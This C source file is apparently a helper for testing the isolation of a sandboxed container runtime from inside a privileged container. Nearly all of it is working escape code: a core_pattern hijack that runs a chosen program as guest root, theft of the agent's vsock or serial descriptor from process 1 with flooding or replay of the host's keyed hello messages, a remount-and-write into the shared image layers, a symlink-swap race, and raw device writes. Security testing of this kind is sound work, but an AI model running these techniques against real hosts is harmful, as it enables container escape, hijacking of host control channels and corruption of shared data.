/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a privileged container does with what busybox has not. Built static; lies in a volume of the container.
 *
 *   guest steal PATH WHAT   let the guest's kernel run `PATH root WHAT` as root of the guest, by a core dump
 *   guest root WHAT         take the agent's port or vsock from process 1 and send `garbage`, or `hello`s with the host's
 *                           own key; or `layers`: write into the images' share, and say into the file PATH.result how that went
 *   guest race DIRECTORY TARGET SECONDS   swap a directory and a link to TARGET while others write through it
 *   guest write FILE        write one byte at the beginning of a device or file; 1 when that is refused
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { KEY = 16, HEADER = 20, HELLO = 1, FDS = 64 };

static int fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 1;
}

static int steal(const char *path, const char *what)
{
    char pattern[128];
    struct rlimit core = {RLIM_INFINITY, RLIM_INFINITY};
    int length = snprintf(pattern, sizeof pattern, "|%s root %s", path, what);
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
    if (fd < 0 || write(fd, pattern, (size_t)length) != length)
        return fail("core_pattern");
    close(fd);
    setrlimit(RLIMIT_CORE, &core);
    pid_t pid = fork();
    if (pid == 0)
        abort();
    waitpid(pid, NULL, 0);
    return 0;
}

/* A virtio-serial port, or the vsock that the agent has connected. */
static int is_port(int fd)
{
    char name[64], link[128] = "";
    int domain = 0;
    socklen_t size = sizeof domain;
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    if (readlink(name, link, sizeof link - 1) > 0 && strstr(link, "vport"))
        return 1;
    return getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &size) == 0 && domain == AF_VSOCK;
}

static int find_port(void)
{
    int agent = (int)syscall(SYS_pidfd_open, 1, 0);
    for (int number = 3; number < FDS; number++) {
        int fd = (int)syscall(SYS_pidfd_getfd, agent, number, 0);
        if (fd < 0)
            continue;
        if (is_port(fd))
            return fd;
        close(fd);
    }
    return -1;
}

/* The key is in front of every greeting of the host's: 16 bytes, then the header of a HELLO. */
static size_t find_hello(const uint8_t *bytes, size_t size)
{
    static const uint8_t rest[HEADER - 4] = {HELLO};
    for (size_t at = KEY; at + HEADER < size; at++)
        if (!bytes[at + 2] && !bytes[at + 3] && !memcmp(bytes + at + 4, rest, sizeof rest) && bytes[at])
            return at;
    return 0;
}

static void send_all(int port, const uint8_t *bytes, size_t size)
{
    while (size) {
        ssize_t written = write(port, bytes, size);
        if (written < 0)
            usleep(1000);
        else
            bytes += written, size -= (size_t)written;
    }
}

static int port(const char *what)
{
    static uint8_t seen[1 << 16], garbage[4096];
    size_t size = 0, hello = 0;
    int fd = find_port();
    if (fd < 0)
        return fail("the agent's port");
    memset(garbage, 0xff, sizeof garbage);
    while (!strcmp(what, "garbage"))
        send_all(fd, garbage, sizeof garbage);
    while (!hello) {
        send_all(fd, garbage, 256);
        ssize_t got = read(fd, seen + size, sizeof seen - size);
        size = got > 0 && size + (size_t)got < sizeof seen ? size + (size_t)got : 0;
        hello = find_hello(seen, size);
    }
    size_t length = KEY + HEADER + (size_t)(seen[hello] | seen[hello + 1] << 8);
    for (;;) {
        send_all(fd, seen + hello - KEY, length);
        usleep(4000);
    }
}

static int layers(const char *path)
{
    static const char directory[] = "/run/clearpod/layers", file[] = "/run/clearpod/layers/written";
    char report[256];
    snprintf(report, sizeof report, "%s.result", path);
    int result = open(report, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    mount(NULL, directory, NULL, MS_REMOUNT, "");
    mount(NULL, directory, NULL, MS_REMOUNT | MS_BIND, NULL);
    int fd = open(file, O_CREAT | O_WRONLY, 0644);
    dprintf(result, "%s\n", fd < 0 ? strerror(errno) : "written");
    return close(result);
}

static int race(const char *directory, const char *target, int seconds)
{
    char real[256], aside[256], file[300];
    time_t end = time(NULL) + seconds;
    snprintf(real, sizeof real, "%s/d", directory);
    snprintf(aside, sizeof aside, "%s/aside", directory);
    snprintf(file, sizeof file, "%s/d/written-through", directory);
    mkdir(real, 0755);
    pid_t writer = fork();
    while (writer == 0) {
        int fd = open(file, O_CREAT | O_WRONLY | O_NOFOLLOW, 0644);
        if (fd >= 0)
            close(fd);
        unlink(file);
    }
    while (time(NULL) < end) {
        rename(real, aside);
        symlink(target, real);
        unlink(real);
        rename(aside, real);
    }
    kill(writer, SIGKILL);
    waitpid(writer, NULL, 0);
    return 0;
}

static int write_one(const char *path)
{
    int fd = open(path, O_RDWR | O_SYNC);
    if (fd < 0 || pwrite(fd, "X", 1, 0) != 1 || fsync(fd) < 0)
        return fail(path);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && !strcmp(argv[1], "steal"))
        return steal(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "root"))
        return strcmp(argv[2], "layers") ? port(argv[2]) : layers(argv[0]);
    if (argc == 5 && !strcmp(argv[1], "race"))
        return race(argv[2], argv[3], atoi(argv[4]));
    if (argc == 3 && !strcmp(argv[1], "write"))
        return write_one(argv[2]);
    fprintf(stderr, "usage: see guest.c\n");
    return 2;
}
